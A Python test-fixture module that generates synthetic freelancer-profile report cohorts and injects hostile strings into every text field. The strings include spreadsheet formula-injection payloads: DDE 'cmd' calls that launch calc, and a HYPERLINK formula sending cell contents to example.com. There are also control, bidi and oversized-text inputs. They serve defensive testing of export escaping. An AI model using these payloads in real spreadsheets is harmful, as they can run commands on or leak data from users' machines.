"""Made-up cohorts of any size, the same ones every time, and the nastiest texts in them."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, timedelta
from random import Random

from reportgen.domain.actions import advise
from reportgen.domain.cohort import CheckResult, Cohort, Entry, Intake, PastRun, ReportState
from reportgen.domain.fields import CellRef
from reportgen.domain.outcome import (
    Finding,
    Outcome,
    Override,
    Quote,
    Status,
    score_for,
    status_for,
)
from reportgen.domain.problem import Effect, Problem
from reportgen.domain.profile import ExperienceLevel, Profile, SubmissionStatus
from reportgen.domain.report import Report, RulebookName
from reportgen.domain.review import Release, Review, apply_overrides
from reportgen.domain.scoring import scorecard
from reportgen.domain.stage import eligibility_of, stage_of

DAY = date(2026, 11, 22)
RULES = RulebookName("upwork", "0a1b2c3d4e5f")
OLD_RULES = RulebookName("upwork", "ffffeeee0000")
FINDINGS = {
    "overview": ("too-short", "vague"),
    "employment": ("none", "undated"),
    "skills": ("few", "foreign"),
    "title": ("vague", "narrow"),
    "proofreading": ("typo", "shouting"),
    "experience_level": ("undersold",),
    "hourly_rate": ("low", "high"),
    "portfolio": ("few",),
    "education": ("undescribed",),
    "completeness": ("half",),
    "types_of_work": ("single",),
    "photo": ("logo",),
    "market_fit": ("crowded",),
    "contact_details": ("address",),
    "business_email": ("free",),
    "real_name": ("initials",),
    "linked_accounts": ("none",),
    "proof_of_skill": ("none",),
    "resubmission": ("unchanged",),
    "original_text": ("same",),
}
WEIGHTS = (13, 12, 9, 9, 8, 6, 5, 5, 4, 4, 4, 4, 4, 3, 2, 2, 2, 2, 2, 0)
NAMES = (
    "Amélie Dupont",
    "Nguyễn Thị Hoa",
    "محمد عبد الله",
    "李小龍",
    "Олена Шевченко",
    "Siobhán O’Neill",
    "Łukasz Żółć",
    "דוד כהן",
    "Priya Raman",
    "João Pereira da Conceição e Silva",
)
COACHES = ("Ana", "Ben", "Chidi", "")
COUNTRIES = ("Kenya", "Philippines", "Poland", "Brazil", "India")
CATEGORIES = ("Web, Mobile & Software Dev", "Writing", "Design & Creative", "Admin Support")
HALF_SEEN = 8  # so is every thirteenth from this one on: their sheet says next to nothing
WORDS = ("I am a hard worker", "reliable and quick", "since 2019", "wordpress, react", "ASAP!!!")

INJECTIONS = (
    "=1+1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '";=1+1',
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "TRUE",
    "1e5",
    "007",
    "2026-11-22",
    "_x0041_ and _x000D_",
    " leading and trailing ",
    "two\r\nlines",
)
HOSTILE = (
    *INJECTIONS,
    "bell \x07, null \x00, escape \x1b",
    "half a pair \ud83d here",
    "not a character \ufffe\uffff",
    "right \u202eto left",
    "x" * 40_000,
    "😀" * 20_000,
    "<b>&amp; \"quoted\" 'too'",
)


def cohort(size: int, *, runs: int = 5, seed: int = 7) -> Cohort:
    """`size` people with verdicts of every kind, and `runs` earlier nights."""
    random = Random(seed)
    entries = tuple(_entry(random, number) for number in range(size))
    return Cohort(
        as_of=DAY,
        intake=Intake("sample_intake.xlsx", "ab" * 32, ("Candidates",), size + 1),
        rulebook=RULES,
        entries=entries,
        problems=_problems(),
        past=tuple(_past(random, entries, runs - n) for n in range(runs)),
    )


def with_texts(plain: Cohort, texts: tuple[str, ...]) -> Cohort:
    """The cohort with a nasty text in every place a text can come from."""
    entries = list(plain.entries)
    for index, text in enumerate(texts[: len(entries)]):
        report = entries[index].report
        profile = replace(report.profile, name=text or "?", coach=text, country=text, category=text)
        quoted = tuple(_quoting(o, text) for o in report.card.outcomes)
        card = replace(report.card, outcomes=quoted)
        review = replace(report.review, note=text)
        entries[index] = replace(
            entries[index], report=replace(report, profile=profile, card=card, review=review)
        )
    problem = replace(plain.problems[0], value=texts[0])
    return replace(plain, entries=tuple(entries), problems=(problem, *plain.problems[1:]))


def _quoting(outcome: Outcome, text: str) -> Outcome:
    findings = tuple(replace(f, evidence=(Quote(text, "overview"),)) for f in outcome.findings)
    return replace(outcome, findings=findings)


def _entry(random: Random, number: int) -> Entry:
    status = random.choice((None, *list(SubmissionStatus)[:5], SubmissionStatus.DECLINED))
    profile = Profile(
        id=f"C-{number + 1:03d}",
        name=_name(number),
        row=CellRef("Candidates", number + 2, f"A{number + 2}"),
        email=f"person{number}@example.com",
        coach=random.choice(COACHES),
        cohort=random.choice(("2026-A", "2026-B")),
        country=random.choice(COUNTRIES),
        category=random.choice(CATEGORIES),
        experience_level=random.choice((*ExperienceLevel, None)),
        submission_status=status,
        submitted_on=DAY - timedelta(days=random.randrange(60)) if status else None,
        birth_year=2012 if number == 17 else None,
    )
    review = _review(random)
    outcomes = [
        _outcome(random, slug, weight, number)
        for slug, weight in zip(FINDINGS, WEIGHTS, strict=True)
    ]
    card = scorecard(apply_overrides(outcomes, review))
    advice = advise(card)
    report = Report(
        profile=profile,
        stage=stage_of(profile),
        eligibility=eligibility_of(profile, DAY),
        card=advice.card,
        actions=advice.actions,
        tonight=advice.tonight,
        strengths=advice.strengths,
        review=review,
        language="en",
        rulebook=RULES,
        submissions=(),
        day=DAY,
    )
    failed = number == 11
    state = ReportState.FAILED if failed else ReportState.RENDERED
    if not report.reported:
        state = ReportState.NOT_REPORTED
    made = state is ReportState.RENDERED
    return Entry(
        report=report,
        state=state,
        pdf=f"reports/{profile.id}-person-{number}.pdf" if made else "",
        pages=3 if made else 0,
        change=round(random.gauss(2, 4), 1) if number % 5 else None,
        mail=random.choice(("held", "sent", "")),
    )


def _name(number: int) -> str:
    again, which = divmod(number, len(NAMES))
    return f"{NAMES[which]} {again + 1}" if again else NAMES[which]


def _review(random: Random) -> Review:
    overrides: tuple[tuple[str, Override], ...] = ()
    if random.random() < 0.12:
        slug = random.choice(("title", "hourly_rate"))
        verdict = random.choice((Status.PASS, Status.FIX, Status.NOT_APPLICABLE))
        overrides = ((slug, Override(verdict, "Seen on the call; it is fine for this niche.")),)
    release = random.choice((Release.UNDECIDED, Release.UNDECIDED, Release.YES, Release.HOLD))
    note = "Call on Monday about the portfolio." if random.random() < 0.2 else ""
    return Review(release, note, overrides)


def _outcome(random: Random, slug: str, weight: float, number: int) -> Outcome:
    tip = list(FINDINGS).index(slug) + 1
    if number % 13 == HALF_SEEN and slug not in ("title", "photo"):
        return Outcome(slug, tip, Status.UNKNOWN, weight, reason="absent")
    chance = random.random()
    if chance < 0.06:
        return Outcome(slug, tip, Status.UNKNOWN, weight, reason="absent")
    if chance < 0.1 or (slug == "resubmission" and chance < 0.7):
        return Outcome(slug, tip, Status.NOT_APPLICABLE, weight, reason="stage")
    if slug == "photo" and number == 3:
        return Outcome(slug, tip, Status.ERROR, weight, reason="error")
    strength = {"overview": 0.7, "skills": 0.55, "portfolio": 0.6}.get(slug, 0.3)
    findings = tuple(
        Finding(
            code=f"{slug}.sample-{code}",
            loss=random.choice((0.2, 0.4, 0.8)),
            effort=random.choice((5, 15, 45)),
            evidence=(Quote(" ".join(random.sample(WORDS, 3)) + f" №{number}", slug),),
            blocker=slug in ("photo", "contact_details") and random.random() < 0.3,
        )
        for code in FINDINGS[slug]
        if random.random() < strength
    )
    score = score_for(findings)
    blocked = any(f.blocker for f in findings)
    status = status_for(score, Status.FIX, blocked=blocked)
    return Outcome(slug, tip, status, weight, score, findings, staff_only=slug == "original_text")


def _past(random: Random, entries: tuple[Entry, ...], ago: int) -> PastRun:
    """The same people some weeks earlier, a little worse; some of them not there yet."""
    readiness: dict[str, float | None] = {}
    results: dict[str, dict[str, CheckResult]] = {}
    for entry in entries[: max(0, len(entries) - ago)]:
        if not entry.report.reported:
            continue
        who, card = entry.report.profile.id, entry.report.card
        now = card.firm
        readiness[who] = None if now is None else max(0.0, now - 3 * ago + random.gauss(0, 2))
        results[who] = {
            o.slug: CheckResult(
                o.status, None if o.score is None else max(0.0, o.score - 0.03 * ago), o.gain
            )
            for o in card.outcomes
        }
    rules = OLD_RULES if ago > 2 else RULES
    return PastRun(DAY - timedelta(days=7 * ago), rules, readiness, results)


def _problems() -> tuple[Problem, ...]:
    where = ("F", 14, "Hourly rate", "about twenty"), ("C", 7, "E-mail", "=cmd"), ("A", 31, "", "")
    effects = (Effect.FIELD_IGNORED, Effect.NOTED, Effect.ROW_REJECTED)
    return tuple(
        Problem(
            "sample-problem",
            effect,
            CellRef("Candidates’ list", row, f"{column}{row}", heading),
            value,
        )
        for (column, row, heading, value), effect in zip(where, effects, strict=True)
    )
